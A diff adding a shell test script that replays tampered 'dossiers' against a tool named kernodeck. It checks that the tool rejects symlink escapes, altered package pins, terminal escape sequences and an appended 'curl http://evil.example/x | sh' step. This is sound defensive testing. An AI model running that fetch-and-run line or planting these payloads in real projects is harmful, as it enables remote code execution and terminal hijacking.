@@ -1,0 +1,170 @@
+#!/bin/sh
+# replay-hostile.sh - the table of hostile dossiers and repositories
+# (tests/hostile/replay.tsv): each row makes a project, its dossier, and
+# one hostile change (a link committed where kernodeck writes, a path
+# field that leaves the work folder, a file that differs from the
+# dossier's copy, control bytes in a string the plan shows), re-signs the
+# dossier (SHA256SUMS recomputed) and replays it; it checks the exit
+# status, the message, that the folder outside stays empty and that no
+# raw control byte was printed.  KD_HOSTILE=NAME runs one row,
+# KD_HOSTILE_SHOW=1 prints each output.
+. "$KD_SRCDIR/tests/lib.sh"
+PY=/usr/bin/python3
+TABLE="$KD_SRCDIR/tests/hostile/replay.tsv"
+OUT="$KD_TMP/outside"
+
+# raw FILE: raw control bytes (but tab, newline) and non-UTF-8 bytes
+raw() {
+	$PY -c "
+import re, sys
+b = open(sys.argv[1], 'rb').read()
+t = b.decode('utf-8', 'replace')
+print(len(re.findall(rb'[\x00-\x08\x0b-\x1f\x7f]', b)) + t.count('\ufffd') + len(re.findall('[\x80-\x9f]', t)))" "$1"
+}
+# resign D: SHA256SUMS of every file, as anyone can compute it
+resign() {
+	$PY - "$1" <<'PYEOF'
+import hashlib, os, sys
+d = sys.argv[1]
+lines = []
+for root, dirs, files in os.walk(d):
+    for f in files:
+        p = os.path.join(root, f)
+        rel = os.path.relpath(p, d)
+        if rel == "SHA256SUMS":
+            continue
+        lines.append("%s  %s\n" % (hashlib.sha256(open(p, "rb").read()).hexdigest(), rel))
+open(os.path.join(d, "SHA256SUMS"), "w").write("".join(sorted(lines, key=lambda l: l[66:])))
+PYEOF
+}
+# setref D KEY=VALUE: set a field of the dossier's reference (YAML value)
+setref() {
+	$PY - "$1/kernodeck/reference.yaml" "$2" <<'PYEOF'
+import sys, yaml
+p, kv = sys.argv[1], sys.argv[2]
+k, v = kv.split("=", 1)
+d = yaml.safe_load(open(p))
+cur = d
+keys = k.split(".")
+for x in keys[:-1]:
+    cur = cur.setdefault(x, {})
+cur[keys[-1]] = yaml.safe_load(v) if v[:1] in "[{" else v
+yaml.safe_dump(d, open(p, "w"), sort_keys=False)
+PYEOF
+}
+
+# project NAME: a project with a rebuild file and an inventory, committed
+project() {
+	P="$KD_TMP/$1/p"
+	mkdir -p "$P/kernodeck"
+	echo "print('hello')" >"$P/main.py"
+	printf 'numpy\n' >"$P/requirements-rebuild.txt"
+	printf 'numpy==1.24.2\n' >"$P/inv.txt"
+	git -C "$P" init -q
+	git -C "$P" add main.py requirements-rebuild.txt inv.txt
+	git -C "$P" commit -qm init
+}
+reference() {
+	cat >"$P/kernodeck/reference.yaml" <<YAML
+schema: 1
+code:
+  commit: $(git -C "$P" rev-parse HEAD)
+  entry_point: ${ENTRY:-[python, main.py]}
+result:
+  outputs: ${OUTS:-outputs}
+python:
+  interpreter: /usr/bin/python3
+  inventory: inv.txt
+YAML
+}
+
+run_row() { # name how exit message known
+	name=$1 how=$2 want=$3 msg=$4 known=$5
+	ENTRY= OUTS=
+	project "$name"
+	yes=--yes
+	rm -rf "$OUT"; mkdir -p "$OUT"
+	# changes to the repository come before the dossier (its commit)
+	oldifs=$IFS; IFS=';'
+	for step in $how; do
+		IFS=$oldifs
+		case "$step" in
+		link:*)
+			l=${step#link:}
+			mkdir -p "$P/$(dirname "$l")"
+			rm -rf "${P:?}/$l"
+			ln -s "$OUT" "$P/$l"
+			git -C "$P" add -f "$l" && git -C "$P" commit -qm link
+			# the project's own kernodeck folder stays a folder: only the
+			# recorded commit holds the link
+			if [ "$l" = kernodeck ]; then rm "$P/kernodeck"; mkdir "$P/kernodeck"; fi ;;
+		flink:*)
+			l=${step#flink:}
+			cp "$P/$l" "$KD_TMP/$name/outside-file"
+			rm -f "$P/$l"
+			ln -s "$KD_TMP/$name/outside-file" "$P/$l"
+			git -C "$P" add -f "$l" && git -C "$P" commit -qm link ;;
+		outs:*) OUTS=${step#outs:} ;;
+		esc:entry)
+			ENTRY='[python, main.py, "--tag=\e]0;PWNED\a"]' ;;
+		esc:rebuild)
+			printf 'numpy  # \033]52;c;aGVsbG8=\007 \033[2K\r\n' >"$P/requirements-rebuild.txt"
+			git -C "$P" commit -qam esc ;;
+		esac
+		IFS=';'
+	done
+	IFS=$oldifs
+	reference
+	"$KD_BIN" dossier "$P" >"$KD_TMP/$name/dossier.out" 2>&1
+	D="$P/kernodeck/dossier"
+	IFS=';'
+	for step in $how; do
+		IFS=$oldifs
+		case "$step" in
+		field:*) setref "$D" "${step#field:}" ;;
+		copy:*) echo "evilpkg==6.6.6" >>"$D/project/${step#copy:}" ;;
+		drop:*) rm -f "$D/project/${step#drop:}" ;;
+		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
+		esc:entry) yes= ;;
+		esc:rebuild) yes= ;;
+		esac
+		IFS=';'
+	done
+	IFS=$oldifs
+	resign "$D"
+	W="$KD_TMP/$name/w"
+	# shellcheck disable=SC2086
+	timeout 120 "$KD_BIN" replay "$D" --workdir "$W" $yes </dev/null >"$KD_TMP/$name/out" 2>&1
+	got=$?
+	why=
+	[ "$got" -eq "$want" ] || why="exit $got, wanted $want"
+	grep -qF -- "$msg" "$KD_TMP/$name/out" || why="${why:+$why; }no \"$msg\" in the output"
+	[ -z "$(ls -A "$OUT")" ] || why="${why:+$why; }something was written outside: $(ls -A "$OUT" | head -n 3 | tr '\n' ' ')"
+	c=$(raw "$KD_TMP/$name/out")
+	[ "$c" -eq 0 ] || why="${why:+$why; }$c raw control bytes printed"
+	[ -n "${KD_HOSTILE_SHOW:-}" ] && sed "s/^/# $name: /" "$KD_TMP/$name/out"
+	if [ -z "$why" ] && [ -n "$known" ]; then
+		ok "replay-hostile $name (exit $got; marked as a known bug but it passes: remove the mark)"
+	elif [ -z "$why" ]; then
+		ok "replay-hostile $name (exit $got)"
+	elif [ -n "$known" ]; then
+		skip "replay-hostile $name" "known bug: $known ($why)"
+	else
+		notok "replay-hostile $name: $why"
+		sed 's/^/#   /' "$KD_TMP/$name/out" | tail -n 8
+	fi
+}
+
+if ! $PY -c "import yaml" 2>/dev/null; then
+	skip "replay-hostile" "python3-yaml is needed to edit the dossiers"
+	exit 0
+fi
+nrows=0
+tab=$(printf '\t')
+while IFS="$tab" read -r name how want msg known; do
+	case "$name" in ''|'#'*) continue ;; esac
+	[ -n "${KD_HOSTILE:-}" ] && [ "$name" != "$KD_HOSTILE" ] && continue
+	nrows=$((nrows + 1))
+	run_row "$name" "$how" "$want" "$msg" "$known"
+done <"$TABLE"
+[ -n "${KD_HOSTILE:-}" ] || check "the replay table has $nrows rows (at least 25)" test "$nrows" -ge 25
